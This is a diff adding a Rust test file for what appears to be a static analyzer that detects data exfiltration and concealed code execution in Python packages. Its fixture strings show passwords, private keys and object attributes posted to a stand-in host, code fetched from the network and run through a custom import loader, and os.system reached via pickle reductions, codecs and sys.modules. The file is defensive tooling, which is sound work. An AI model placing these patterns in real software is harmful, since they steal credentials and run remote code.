@@ -1,0 +1,230 @@
+//! Claims about what carries data from one place to another, and about code that is reached by detours.
+
+mod common;
+
+use common::{analysis_of, calls, event, events_of};
+use venin_model::{OriginKind, Role, Trigger};
+
+/// The text of what a function sends, and whether the caller's argument is in it.
+fn sent(body: &str) -> (String, bool) {
+    let source = format!("import requests\n{body}\n");
+    let event = event(&source, "requests.post");
+    let data = event.argument(Role::Data).unwrap_or_else(|| panic!("nothing is sent by {body}"));
+    let text = data.value.as_ref().map(|v| v.text.to_string()).unwrap_or_default();
+    (text, data.origins.kinds.contains(OriginKind::Argument))
+}
+
+#[test]
+fn a_text_made_of_a_container_shows_the_secret_in_it() {
+    for made in [
+        "str({'p': password})",
+        "repr({'p': password})",
+        "'%s' % {'p': password}",
+        "'{}'.format({'p': password})",
+        "f'{[password]!r}'",
+        "urllib.parse.urlencode({'p': password})",
+        "urllib.parse.quote(repr({'p': password}))",
+        "urllib.parse.quote(password)",
+        "json.dumps({'p': [password]})",
+        "copy.deepcopy({'a': {'p': password}})",
+        "str(password)",
+    ] {
+        let body = format!(
+            "import copy, json, urllib.parse\ndef send(password):\n    requests.post('https://a.example', data={made})"
+        );
+        let (text, is_argument) = sent(&body);
+        assert!(text.contains("⟨argument[password]⟩") && is_argument, "{made}: {text}");
+    }
+}
+
+#[test]
+fn a_text_of_known_values_stays_a_constant() {
+    let (text, is_argument) =
+        sent("def send(password):\n    requests.post('https://a.example', data=str({'a': [1, 'x']}))");
+    assert_eq!((text.as_str(), is_argument), ("{'a': [1, 'x']}", false));
+}
+
+#[test]
+fn what_holds_an_argument_carries_it() {
+    for (name, body) in [
+        ("locals", "def send(password):\n    requests.post('https://a.example', json=locals())"),
+        (
+            "dict(locals())",
+            "def send(password):\n    d = dict(locals())\n    requests.post('https://a.example', json=d)",
+        ),
+        (
+            "keywords",
+            "def send(**kw):\n    requests.post('https://a.example', json={k: str(v) for k, v in kw.items()})",
+        ),
+        ("rest", "def send(*a):\n    requests.post('https://a.example', data=list(map(str, a)))"),
+        (
+            "namespace",
+            "import types\ndef send(password):\n    n = types.SimpleNamespace(p=password)\n    requests.post('https://a.example', data=n.p)",
+        ),
+        (
+            "queue",
+            "import queue\ndef send(password):\n    q = queue.Queue(5)\n    q.put_nowait(('x', password))\n    name, item = q.get()\n    requests.post('https://a.example', data=item)",
+        ),
+        (
+            "deque",
+            "from collections import deque\ndef send(password):\n    q = deque(maxlen=5)\n    q.appendleft({'p': password})\n    requests.post('https://a.example', data=list(q))",
+        ),
+    ] {
+        assert!(sent(body).1, "{name}: {:?}", sent(body));
+    }
+}
+
+#[test]
+fn an_object_carries_its_attributes() {
+    for read in
+        ["vars(self)", "self.__dict__", "str(self.__dict__)", "self.__dict__.copy()", "dict(vars(self))"]
+    {
+        let body = format!(
+            "class C:\n    def __init__(self, user, password):\n        self.user = user\n        self.password = password\n    def send(self):\n        requests.post('https://a.example', json={read})"
+        );
+        let (text, is_argument) = sent(&body);
+        assert!(is_argument && text.contains("⟨argument[password]⟩"), "{read}: {text}");
+    }
+}
+
+#[test]
+fn what_is_not_put_in_is_not_carried() {
+    let body = "import queue\ndef send(password):\n    q = queue.Queue()\n    q.put('a')\n    requests.post('https://a.example', data=q.get())";
+    assert_eq!(sent(body), ("a".to_owned(), false));
+}
+
+#[test]
+fn a_thread_sends_what_callers_put_into_its_queue_later() {
+    let source = "import queue, threading, requests\nq = queue.Queue()\ndef pump():\n    while True:\n        requests.post('https://a.example', data=q.get())\ndef login(password):\n    q.put(password)\nthreading.Thread(target=pump).start()\n";
+    let events = events_of(source);
+    let carried: Vec<_> = events
+        .iter()
+        .filter(|e| &*e.name == "requests.post")
+        .filter(|e| e.argument(Role::Data).is_some_and(|d| d.origins.kinds.contains(OriginKind::Argument)))
+        .collect();
+    assert!(!carried.is_empty());
+    // Nobody has put anything in when the thread begins.
+    assert!(carried.iter().all(|e| e.trigger == Trigger::Run));
+}
+
+#[test]
+fn what_runs_at_the_end_sends_what_was_kept() {
+    let source = "import atexit, json, requests\nheld = []\ndef ask(password):\n    held.append({'v': password})\ndef drain():\n    if not held:\n        return\n    requests.post('https://a.example', data=json.dumps(list(held)))\natexit.register(drain)\n";
+    let carried = events_of(source).iter().any(|e| {
+        &*e.name == "requests.post"
+            && e.argument(Role::Data).is_some_and(|d| d.origins.kinds.contains(OriginKind::Argument))
+    });
+    assert!(carried);
+}
+
+#[test]
+fn a_module_knows_its_own_docstring() {
+    let source = "\"\"\"print('word')\"\"\"\nexec(__doc__)";
+    let code = event(source, "exec");
+    assert_eq!(code.text(Role::Code), Some("print('word')"));
+}
+
+#[test]
+fn a_module_is_reached_through_the_table_of_modules() {
+    for source in [
+        "import sys\nsys.modules.get('os').system('echo a')",
+        "import sys\nfrom operator import attrgetter\nattrgetter('modules')(sys).get('os').system('echo a')",
+    ] {
+        assert!(calls(source).contains(&"os.system".to_owned()), "{source}: {:?}", calls(source));
+    }
+}
+
+#[test]
+fn a_function_is_reached_along_a_dotted_path() {
+    for source in [
+        "import urllib.request, operator\noperator.attrgetter('request.urlopen')(urllib)('https://a.example')",
+        "import urllib.request, functools\nfunctools.reduce(getattr, 'request.urlopen'.split('.'), urllib)('https://a.example')",
+    ] {
+        assert_eq!(calls(source), ["urllib.request.urlopen"], "{source}");
+    }
+}
+
+#[test]
+fn what_a_loader_of_the_artifact_reads_is_executed() {
+    for method in ["get_source", "get_code", "get_data"] {
+        let source = format!(
+            "import importlib.util as iu, importlib.abc\nfrom urllib.request import urlopen\nclass L(importlib.abc.InspectLoader):\n    def {method}(self, name):\n        return urlopen('https://a.example/c').read()\nspec = iu.spec_from_loader('x', L())\nmod = iu.module_from_spec(spec)\nspec.loader.exec_module(mod)\n"
+        );
+        let ran = event(&source, "importlib.abc.InspectLoader().exec_module");
+        let code = ran.argument(Role::Code).expect("it has code");
+        assert!(code.origins.kinds.contains(OriginKind::Network), "{method}");
+    }
+}
+
+#[test]
+fn a_loader_that_runs_its_module_itself_is_only_called() {
+    let source = "import importlib.util as iu, os\nclass L:\n    def create_module(self, spec):\n        return None\n    def exec_module(self, module):\n        os.system('echo a')\nmod = iu.module_from_spec(iu.spec_from_loader('x', L()))\n";
+    let names = calls(source);
+    assert!(names.contains(&"os.system".to_owned()), "{names:?}");
+    assert!(!names.iter().any(|n| n.ends_with("exec_module")), "{names:?}");
+}
+
+#[test]
+fn a_codec_of_the_artifact_is_applied_where_its_name_is_used() {
+    for used in ["b'x'.decode('own')", "codecs.decode(b'x', 'own')", "open('a.txt', 'r', 1, 'own').read()"] {
+        let source = format!(
+            "import codecs, os\ndef dec(data, errors='strict'):\n    os.system('echo ' + errors)\n    return 'text', len(data)\ndef search(name):\n    if name == 'own':\n        return codecs.CodecInfo(lambda s, e='strict': (s.encode(), len(s)), dec, name='own')\ncodecs.register(search)\n{used}\n"
+        );
+        let ran = event(&source, "os.system");
+        assert_eq!(ran.trigger, Trigger::Import, "{used}");
+    }
+}
+
+#[test]
+fn a_codec_that_nobody_uses_decodes_nothing() {
+    let source = "import codecs, os\ndef dec(data, errors='strict'):\n    os.system('echo a')\n    return '', 0\ncodecs.register(lambda name: codecs.CodecInfo(None, dec) if name == 'own' else None)\nb'x'.decode('utf-8')\n";
+    assert!(events_of(source).iter().all(|e| &*e.name != "os.system" || e.trigger == Trigger::Run));
+}
+
+#[test]
+fn unpickling_runs_what_a_reduction_gives() {
+    let source =
+        "import os\nclass Model:\n    def __reduce__(self):\n        return os.system, ('echo a',)\n";
+    let ran = event(source, "os.system");
+    assert_eq!((ran.text(Role::Command), ran.trigger), (Some("echo a"), Trigger::Run));
+}
+
+#[test]
+fn a_reduction_to_the_class_itself_calls_nothing_outside() {
+    let source = "class Point:\n    def __init__(self, x):\n        self.x = x\n    def __reduce__(self):\n        return type(self), (self.x,)\n";
+    assert!(analysis_of(&[("pkg/__init__.py", source, Trigger::Import)]).events.is_empty());
+}
+
+#[test]
+fn what_a_client_library_writes_leaves_the_host() {
+    for (source, name) in [
+        (
+            "import xmlrpc.client\ndef login(password):\n    xmlrpc.client.ServerProxy('http://a.example/rpc').put(password)",
+            "xmlrpc.client.ServerProxy().put",
+        ),
+        (
+            "from web3 import Web3\ndef sign(private_key):\n    w3 = Web3(Web3.HTTPProvider('http://a.example/rpc'))\n    w3.eth.send_raw_transaction(private_key)",
+            "web3.Web3().eth.send_raw_transaction",
+        ),
+        (
+            "import urllib.request\ndef login(password):\n    rq = urllib.request.Request('http://a.example/rpc')\n    rq.data = password",
+            "urllib.request.Request().data",
+        ),
+        (
+            "import requests\ndef login(password):\n    rq = requests.Request('POST', 'http://a.example/rpc', data=password)\n    requests.Session().send(rq.prepare())",
+            "requests.Request",
+        ),
+    ] {
+        let sent = event(source, name);
+        assert_eq!(sent.class.to_string(), "Cn.send", "{name}");
+        assert_eq!(sent.text(Role::Url), Some("http://a.example/rpc"), "{name}");
+        assert!(sent.arguments.iter().any(|a| a.origins.kinds.contains(OriginKind::Argument)), "{name}");
+    }
+}
+
+#[test]
+fn a_request_without_a_body_sends_nothing() {
+    let source =
+        "import requests\ndef get():\n    return requests.Request('GET', 'http://a.example').prepare()";
+    assert_ne!(event(source, "requests.Request").class.to_string(), "Cn.send");
+}
